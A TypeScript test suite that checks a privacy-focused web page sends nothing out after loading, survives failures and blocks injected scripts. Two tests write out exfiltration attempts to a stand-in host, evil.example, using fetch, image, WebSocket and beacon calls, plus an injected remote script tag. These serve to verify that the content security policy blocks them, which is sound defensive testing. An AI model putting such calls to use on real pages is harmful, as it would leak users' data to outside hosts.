import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Lab } from './lab.ts';
import { READY, openLab } from './lab.ts';
import type { Fault } from './servers.ts';
import type { Tab } from './tab.ts';
import { eventually } from './tab.ts';
import { HEADING, ONWARD, button, press, start, walk } from './walker.ts';

const FOOTER = ['About', 'Privacy', 'Accessibility'];

let lab: Lab;

beforeAll(async () => {
  lab = await openLab();
});
afterAll(() => lab.end());

/** What went out since: to anybody, and to the site itself. */
function since(own: Lab = lab) {
  const [all, asked] = [own.recorder.seen.length, own.site.asked.length];
  return () => [...own.recorder.seen.slice(all), ...own.site.asked.slice(asked)];
}

/** Everything somebody can do that is no link out: each leaves the tab somewhere in the program. */
const KINDS: Readonly<Record<string, (tab: Tab) => Promise<unknown>>> = {
  'walks to the end, of many seeds': async (tab) => {
    for (let seed = 1; seed <= 10; seed += 1) {
      await walk(tab, seed);
      await tab.eval(`${button('Start over')}?.click(), 0`);
      await tab.click(button('Clear and start over'));
      await tab.until(`document.querySelector('[data-start]') !== null`);
    }
  },
  'somebody who leaves all they can empty': async (tab) => {
    await start(tab);
    for (let i = 0; i < 60; i += 1) {
      const before = JSON.stringify(await tab.eval(HEADING));
      // The summary has buttons too, once its rest has come: none of them leads on.
      if (await tab.eval(`${ONWARD} === null || document.querySelector('main .key') !== null`))
        break;
      await tab.eval(`${ONWARD}.click(), 0`);
      const refused = `document.querySelector('.check') !== null`;
      await tab.until(`${HEADING} !== ${before} || ${refused}`);
      if (await tab.eval(refused))
        await tab.eval(`document.querySelector('main input').click(), 0`);
    }
    // The options come right after the top of the summary, which has nothing to press.
    await tab.until(`document.querySelector('article.option') !== null`);
  },
  'pages beside, and back': async (tab) => {
    await start(tab);
    for (const name of FOOTER) {
      await press(tab, button(name));
      await press(tab, button('Back'));
    }
  },
  'the look and the size of the text': async (tab) => {
    await tab.eval(
      `document.querySelectorAll('footer details').forEach((each) => { each.open = true; }), 0`,
    );
    const count = Number(await tab.eval(`document.querySelectorAll('footer input').length`));
    for (let i = 0; i < count; i += 1)
      await tab.click(`document.querySelectorAll('footer input')[${i}]`);
  },
  'an exit that is called off': async (tab) => {
    await start(tab);
    await tab.key('Shift');
    await tab.key('Shift');
    await tab.key('Tab');
    await tab.until(`document.querySelector('.dots') === null`);
  },
  'a cover that is raised and taken away': async (tab) => {
    await start(tab);
    await tab.click(`document.querySelector('.tool')`);
    await tab.until(`document.querySelector('.curtain') !== null`);
    await tab.click(`document.querySelector('.curtain button')`);
    await tab.until(`document.querySelector('.curtain') === null`);
  },
  'a long time without a touch': async (tab) => {
    await start(tab);
    await tab.eval(`(() => {
      const now = performance.now.bind(performance);
      performance.now = () => now() + 21 * 60000;
    })(), 0`);
    await tab.until(`document.querySelector('[data-start]') !== null`);
  },
  'an error': async (tab) => {
    await tab.eval(`(Intl.ListFormat.prototype.format = () => { throw new Error('broken'); }), 0`);
    await walk(tab, 3).catch(() => null);
    await tab.until(`${HEADING} !== ''`);
  },
  printing: (tab) => tab.send('Page.printToPDF'),
};

describe('P-1, P-27, X-10: after the start nothing leaves the page', () => {
  it.each(Object.keys(KINDS))('%s', async (kind) => {
    const tab = await lab.visit();
    const out = since();
    await KINDS[kind]?.(tab);
    expect(out()).toEqual([]);
  });

  it('F-71: any press of anything, in any order, leaves a screen, and nothing goes out', async () => {
    const tab = await lab.visit();
    const out = since();
    const found = await tab.eval(`(async () => {
      let state = 99;
      const next = (n) => { state = (Math.imul(state, 1103515245) + 12345) & 0x7fffffff; return state % n; };
      const frame = () => new Promise((done) => requestAnimationFrame(() => done()));
      let lost = 0;
      for (let i = 0; i < 600; i += 1) {
        const all = [...document.querySelectorAll('main button, main input, main summary, header button:not(.tool), footer button, footer input, main a[href^="#"]')];
        all[next(all.length)]?.click();
        if (i % 5 === 0) await frame();
        if (!document.querySelector('h1')?.textContent || !document.querySelector('.strip .leave')) lost += 1;
      }
      return lost;
    })()`);
    expect(found).toBe(0);
    expect(out()).toEqual([]);
  });
});

describe('P-2: what is loaded', () => {
  it('is the same few files for everybody, all at the start', async () => {
    const loaded: string[][] = [];
    for (const query of ['', '?lang=en', '?theme=dark&text=150', '?look=discreet']) {
      const own = await openLab();
      await own.visit(query);
      loaded.push(
        own.site.asked
          .map((path) => path.split('?')[0] ?? '')
          .toSorted((a, b) => a.localeCompare(b)),
      );
      await own.end();
    }
    for (const paths of loaded) expect(paths).toEqual(loaded[0]);
    expect(loaded[0]?.length).toBeLessThanOrEqual(6);
  });
});

describe('P-3: hosts', () => {
  it('other than our own are not asked for anything before somebody follows a link', async () => {
    const own = await openLab();
    const out = since(own);
    await own.visit();
    expect(out().filter((each) => typeof each !== 'string')).toEqual([]);
    await own.end();
  });
});

describe('P-5, P-23: links out', () => {
  it('tell nobody where they were pressed, and open a tab of their own', async () => {
    const tab = await lab.visit();
    await press(tab, button('About'));
    const links = await tab.eval(
      `[...document.querySelectorAll('main a[href^="http"]')].map((a) => [a.target, a.rel, a.referrerPolicy, new URL(a.href).search.length < 200].join(' '))`,
    );
    expect(new Set(Array.isArray(links) ? links : [])).toEqual(
      new Set(['_blank noopener noreferrer no-referrer true']),
    );
    const before = lab.recorder.requests().length;
    await tab.click(`document.querySelector('main a[href^="https"]')`);
    await eventually(lab.chrome, () => lab.recorder.requests().length > before);
    expect(await tab.eval('location.href')).toBe(lab.address);
    expect(lab.recorder.referrers).toEqual([]);
  });
});

const bare: Fault = (_path, reply) => ({
  ...reply,
  headers: { 'Content-Type': reply.headers['Content-Type'] ?? 'text/plain' },
});

describe('F-9: a proxy that strips all headers', () => {
  it('leaves the policy of the page itself: nothing goes out, whatever tries', async () => {
    const own = await openLab({ fault: bare });
    const tab = await own.visit();
    const out = since(own);
    const blocked = await tab.eval(`(async () => {
      const seen = [];
      addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
      await fetch('https://evil.example/').catch(() => null);
      new Image().src = 'https://evil.example/a.png';
      await navigator.serviceWorker?.register('/sw.js').catch(() => null);
      try { new WebSocket('wss://evil.example/'); } catch {}
      try { navigator.sendBeacon('https://evil.example/', 'x'); } catch {}
      await new Promise((done) => setTimeout(done));
      return seen;
    })()`);
    expect(blocked).toContain('connect-src');
    expect(blocked).toContain('img-src');
    await walk(tab, 5);
    expect(out().filter((each) => !(typeof each === 'string' && each.includes('sw.js')))).toEqual(
      [],
    );
    await own.end();
  });
});

describe('F-8: a proxy that injects a script', () => {
  it('finds it blocked, and the page can be used', async () => {
    const own = await openLab({
      fault: (path, reply) =>
        path === '/'
          ? {
              ...reply,
              body: reply.body
                .toString()
                .replace(
                  '</body>',
                  '<script>window.injected = 1</script><script src="https://evil.example/a.js"></script></body>',
                ),
            }
          : reply,
    });
    const tab = await own.visit();
    expect(await tab.eval('window.injected')).toBeUndefined();
    expect(own.recorder.requests()).toEqual([]);
    expect((await walk(tab, 2)).length).toBeGreaterThan(3);
    await own.end();
  });
});

describe('F-1: the server is gone', () => {
  it('after the start, the whole way can be gone, and the page be left', async () => {
    const own = await openLab();
    const tab = await own.visit();
    await own.site.stop();
    expect((await walk(tab, 8)).length).toBeGreaterThan(3);
    expect(await tab.eval(`document.querySelector('article.option') !== null`)).toBe(true);
    expect(await tab.send('Page.printToPDF')).toHaveProperty('data');
    await tab.click(`document.querySelector('.strip .leave')`);
    await tab.until(`location.href === 'https://www.wikipedia.org/'`);
    await own.end();
  });
});

it('F-12, F-13, F-14, P-6: storage that throws, is full or is not there makes no difference', async () => {
  const tab = await lab.visit();
  await tab.send('Page.addScriptToEvaluateOnNewDocument', {
    source: `(() => {
      const fail = () => { throw new DOMException('none', 'SecurityError'); };
      for (const name of ['localStorage', 'sessionStorage', 'indexedDB', 'caches', 'cookieStore']) {
        Object.defineProperty(window, name, { get: () => { window.touched = name; return fail(); } });
      }
      Object.defineProperty(Document.prototype, 'cookie', { get: () => { window.touched = 'cookie'; return fail(); }, set: fail });
      for (const name of ['BroadcastChannel', 'SharedWorker', 'Worker']) window[name] = function () { window.touched = name; fail(); };
      navigator.storage.getDirectory = () => { window.touched = 'opfs'; return Promise.reject(new Error('none')); };
    })()`,
  });
  await tab.open(lab.address);
  await tab.until(READY);
  expect((await walk(tab, 4)).length).toBeGreaterThan(3);
  expect(await tab.eval('window.touched')).toBeUndefined();
});
